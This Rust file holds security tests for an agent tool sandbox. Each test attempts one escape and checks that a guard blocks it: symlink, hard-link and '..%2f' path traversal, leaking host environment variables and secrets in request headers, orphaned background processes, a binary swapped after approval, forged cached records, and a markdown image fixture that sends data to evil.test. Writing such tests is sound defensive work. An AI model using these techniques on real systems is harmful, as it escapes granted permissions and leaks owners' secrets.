//! The attacks: each small, and stopped by one guard.

use std::net::UdpSocket;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use serde_json::json;

use super::lab::{CANARY, Held, Lab, Server, answered, ask, keep_secret, try_step};
use crate::host::Home;

const WORKSPACE: &[&str] = &["fs workspace read-write"];

/// A folder that nobody is granted, with the canary in `canary.txt`.
fn outside() -> (tempfile::TempDir, PathBuf) {
    let folder = tempfile::Builder::new().prefix("guards-").tempdir().unwrap();
    let canary = folder.path().join("canary.txt");
    std::fs::write(&canary, CANARY).unwrap();
    (folder, canary)
}

async fn run(home: &Home, argv: &[&str]) -> String {
    try_step(home, json!({"host": {"op": "exec", "argv": argv}})).await
}

// P7: the steps run as native code of the worker.
fn escaped(lab: &Lab) -> Home {
    lab.granted(WORKSPACE).env("OPENCLAW_TEST_ONLY_WALL", "os")
}

// FS-02
pub async fn a_worker_reads_what_was_not_granted(lab: &Lab) -> Held {
    let (_outside, canary) = outside();
    let answer = try_step(&escaped(lab), json!({"files": {"op": "read", "path": canary}})).await;
    Held::unless(answer.contains(CANARY))
}

// NET-28: Landlock knows nothing of datagrams.
pub async fn a_worker_sends_a_datagram(lab: &Lab) -> Held {
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    socket.set_nonblocking(true).unwrap();
    let to = socket.local_addr().unwrap().to_string();
    try_step(&escaped(lab), json!({"net": {"op": "udp_send", "from": "127.0.0.1:0", "to": to}})).await;
    Held::unless(socket.recv(&mut [0; 16]).is_ok())
}

// EX-19
pub async fn a_program_reads_what_was_not_granted(lab: &Lab) -> Held {
    let (_outside, canary) = outside();
    let answer = run(&lab.granted(&["exec cat **"]), &["cat", canary.to_str().unwrap()]).await;
    Held::unless(answer.contains(CANARY))
}

// EX-27: the new owner is the old one, so that only the system call is refused.
pub async fn a_program_changes_an_owner(lab: &Lab) -> Held {
    let home = lab.granted(&["exec chown **"]).file("a.txt", "a");
    let answer = run(&home, &["chown", "--reference=a.txt", "a.txt"]).await;
    Held::unless(answer.contains(r#""end":{"code":0}"#))
}

// EX-11
pub async fn a_guest_sets_a_variable_of_its_choice(lab: &Lab) -> Held {
    let home = lab.granted(&["exec printenv **"]);
    let step = json!({"host": {"op": "exec", "argv": ["printenv", "PAGER"], "env": {"PAGER": CANARY}}});
    Held::unless(try_step(&home, step).await.contains(CANARY))
}

// EX-13
pub async fn a_program_reads_the_hosts_environment(lab: &Lab) -> Held {
    let home = lab.granted(&["exec printenv **"]).env("SSH_AUTH_SOCK", CANARY);
    Held::unless(run(&home, &["printenv"]).await.contains(CANARY))
}

// EX-39
pub async fn a_program_leaves_another_behind(lab: &Lab) -> Held {
    // Nobody else on this machine sleeps as long.
    let seconds = format!("4000.{}", rustix::process::getpid());
    let home = lab.granted(&[]);
    run(&home, &["sh", "-c", &format!("sleep {seconds} >/dev/null 2>&1 &")]).await;
    let left = processes(&format!("sleep\0{seconds}\0"));
    for &process in &left {
        rustix::process::kill_process(process, rustix::process::Signal::KILL).unwrap();
    }
    Held::unless(!left.is_empty())
}

/// The processes with this command line.
fn processes(command: &str) -> Vec<rustix::process::Pid> {
    let all = std::fs::read_dir("/proc").unwrap().filter_map(|entry| entry.unwrap().file_name().to_str()?.parse().ok());
    let is_it = |id: &i32| std::fs::read(format!("/proc/{id}/cmdline")).is_ok_and(|line| line == command.as_bytes());
    all.filter(is_it).filter_map(rustix::process::Pid::from_raw).collect()
}

// EX-15
pub async fn a_program_is_replaced_while_a_person_thinks(lab: &Lab) -> Held {
    let (outside, _canary) = outside();
    let home = lab.granted(&[]);
    let tool = outside.path().join("tool");
    std::fs::write(&tool, "#!/bin/sh\necho harmless\n").unwrap();
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    let running = home.start();
    let mut client = running.connect().await;
    let step = json!({"host": {"op": "exec", "argv": [tool]}});
    client.say("main", "r1", &format!("tool probe {}", json!({ "steps": [step] }))).await;
    let replace = || std::fs::write(&tool, format!("#!/bin/sh\necho {CANARY}\n")).unwrap();
    Held::unless(answered(&mut client, replace).await.contains(CANARY))
}

// FS-26
pub async fn a_guest_writes_a_protected_file(lab: &Lab) -> Held {
    let home = lab.granted(WORKSPACE);
    try_step(&home, json!({"files": {"op": "write", "path": "/workspace/.env", "text": "planted"}})).await;
    Held::unless(home.workspace().join(".env").exists())
}

// FS-14
pub async fn a_guest_writes_a_file_with_a_second_name(lab: &Lab) -> Held {
    let (_outside, canary) = outside();
    let home = lab.granted(WORKSPACE).file("kept.md", "milk");
    std::fs::hard_link(&canary, home.workspace().join("linked")).unwrap();
    try_step(&home, json!({"files": {"op": "append", "path": "/workspace/linked", "text": "planted"}})).await;
    Held::unless(std::fs::read_to_string(&canary).unwrap() != CANARY)
}

// FS-03
pub async fn a_guest_follows_a_link_out(lab: &Lab) -> Held {
    let (_outside, canary) = outside();
    let home = lab.granted(WORKSPACE).file("kept.md", "milk");
    symlink(canary, home.workspace().join("link")).unwrap();
    let answer = try_step(&home, json!({"files": {"op": "read", "path": "/workspace/link"}})).await;
    Held::unless(answer.contains(CANARY))
}

// FS-28
pub async fn a_guest_fills_its_own_folder(lab: &Lab) -> Held {
    let grants = json!({"probe": ["fs scratch read-write"]});
    let home = lab.home(&json!({"grants": grants, "components": {"probe": {"limits": {"scratchMiB": 1}}}}).to_string());
    try_step(&home, json!({"files": {"op": "fill", "path": "/scratch/big", "mib": 2}})).await;
    let big = home.path().join("scratch/components/probe/big");
    Held::unless(std::fs::metadata(big).unwrap().len() > 1 << 20)
}

// NET-12: the owner, who approves everything, was told that the address is a public one.
pub async fn a_guest_reaches_this_machine(lab: &Lab) -> Held {
    let server = Server::start().await;
    let url = format!("http://{}/", server.authority);
    try_step(&lab.granted(&[]), json!({"host": {"op": "http", "url": url}})).await;
    Held::unless(server.was_sent(""))
}

// NET-31: `..%2f` is a step up for a server that decodes before it walks, and a plain name for the grant.
pub async fn a_guest_steps_out_of_a_servers_folder(lab: &Lab) -> Held {
    let server = Server::start().await;
    let home = lab.granted(&[&format!("http http://{} GET /open/", server.authority)]);
    let url = format!("http://{}/open/..%2fclosed", server.authority);
    try_step(&home, json!({"host": {"op": "http", "url": url}})).await;
    Held::unless(server.was_sent("closed"))
}

// NET-22: in a handshake, because the guest's own library keeps such fields out of requests.
pub async fn a_guest_sends_a_field_of_the_hosts(lab: &Lab) -> Held {
    let server = Server::start().await;
    let home = lab.granted(&[&format!("net ws://{}", server.authority)]);
    let (url, field) = (format!("ws://{}/", server.authority), ("proxy-authorization", CANARY));
    try_step(&home, json!({"connect": {"op": "web_socket", "url": url, "headers": [field]}})).await;
    Held::unless(server.was_sent(CANARY))
}

// CG-01: the owner has granted more than the manifest asks for.
pub async fn a_guest_uses_what_it_never_declared(lab: &Lab) -> Held {
    let step = json!({"families": {"op": "store", "name": "other", "then": [{"set": ["key", "value"]}]}});
    let answer = try_step(&lab.granted(&["kv other"]), step).await;
    Held::unless(answer.contains(r#"{"ok":"#))
}

// RS-01: what ends the call without this guard is its wall time.
pub async fn a_guest_computes_without_end(lab: &Lab) -> Held {
    let limits = json!({"spin_forever": {"limits": {"cpuSeconds": 1, "callSeconds": 4}}});
    let home = lab.home(&json!({ "components": limits }).to_string()).component("spin_forever");
    let answer = ask(&home, "tool spin_forever {}").await;
    Held::unless(!answer.contains("CPU time"))
}

// RS-04
pub async fn a_guest_takes_more_memory(lab: &Lab) -> Held {
    let config = json!({"grants": {"probe": WORKSPACE}, "components": {"probe": {"limits": {"memoryMiB": 4}}}});
    let home = lab.home(&config.to_string());
    try_step(&home, json!({"host": {"op": "commit_bytes", "path": "big", "bytes": 6 << 20}})).await;
    Held::unless(home.workspace().join("big").exists())
}

// RS-17
pub async fn a_guest_holds_more_handles(lab: &Lab) -> Held {
    let config = json!({"components": {"many_handles": {"limits": {"handles": 100}}}});
    let home = lab.home(&config.to_string()).component("many_handles");
    let answer = ask(&home, r#"tool many_handles {"kind":"pollables","count":200}"#).await;
    Held::unless(!answer.contains("E_LIMIT_HANDLES"))
}

// RS-13
pub async fn a_guest_asks_for_more_effects(lab: &Lab) -> Held {
    let config = json!({"grants": {"probe": ["kv cache"]}, "components": {"probe": {"limits": {"effects": 2}}}});
    let twice = json!([{"set": ["one", "1"]}, {"set": ["two", "2"]}, {"get": "one"}]);
    let step = json!({"families": {"op": "store", "name": "cache", "then": twice}});
    Held::unless(try_step(&lab.home(&config.to_string()), step).await.contains(r#"{"ok":"#))
}

// RS-28
pub async fn a_cached_record_is_forged(lab: &Lab) -> Held {
    let (honest, forged) = ("Tries each step that a test names.", "Gives whoever asks all they want.");
    assert!(forged.len() < honest.len());
    let home = lab.granted(&[]);
    drop(home.start());
    let mut found = 0;
    for entry in std::fs::read_dir(home.path().join("cache")).unwrap() {
        found += usize::from(forge(&entry.unwrap().path(), honest, forged));
    }
    assert_eq!(found, 1, "the probe has a record");
    let running = home.start();
    let mut client = running.connect().await;
    let probe = client.call("components.inspect", json!({"name": "probe"})).await.unwrap();
    Held::unless(probe.to_string().contains(forged))
}

/// Replaces a text in a file, if it is there.
fn forge(path: &Path, honest: &str, forged: &str) -> bool {
    let mut bytes = std::fs::read(path).unwrap();
    let is_record = path.extension().is_some_and(|kind| kind == "record");
    let Some(at) = bytes.windows(honest.len()).position(|window| is_record && window == honest.as_bytes()) else {
        return false;
    };
    bytes.splice(at..at + honest.len(), forged.bytes());
    std::fs::write(path, bytes).unwrap();
    true
}

// SE-06
pub async fn a_guest_sends_a_secret_elsewhere(lab: &Lab) -> Held {
    let server = Server::start().await;
    let home = lab.granted(&["secret canary", &format!("http http://{} GET", server.authority)]);
    keep_secret(&home);
    let (url, field) = (format!("http://{}/", server.authority), ("x-key", "{{secret:canary}}"));
    try_step(&home, json!({"host": {"op": "http", "url": url, "headers": [field]}})).await;
    Held::unless(server.was_sent(CANARY))
}

// SE-25
pub async fn a_tool_repeats_a_secret(lab: &Lab) -> Held {
    let home = lab.granted(WORKSPACE).file("notes.md", CANARY);
    keep_secret(&home);
    let answer = try_step(&home, json!({"files": {"op": "read", "path": "/workspace/notes.md"}})).await;
    Held::unless(answer.contains(CANARY))
}

// ML-18
pub async fn a_guest_has_an_image_shown(lab: &Lab) -> Held {
    let home = lab.granted(WORKSPACE).file("notes.md", "![x](https://evil.test/?d=mine)");
    let answer = try_step(&home, json!({"files": {"op": "read", "path": "/workspace/notes.md"}})).await;
    Held::unless(answer.contains("https://evil.test"))
}
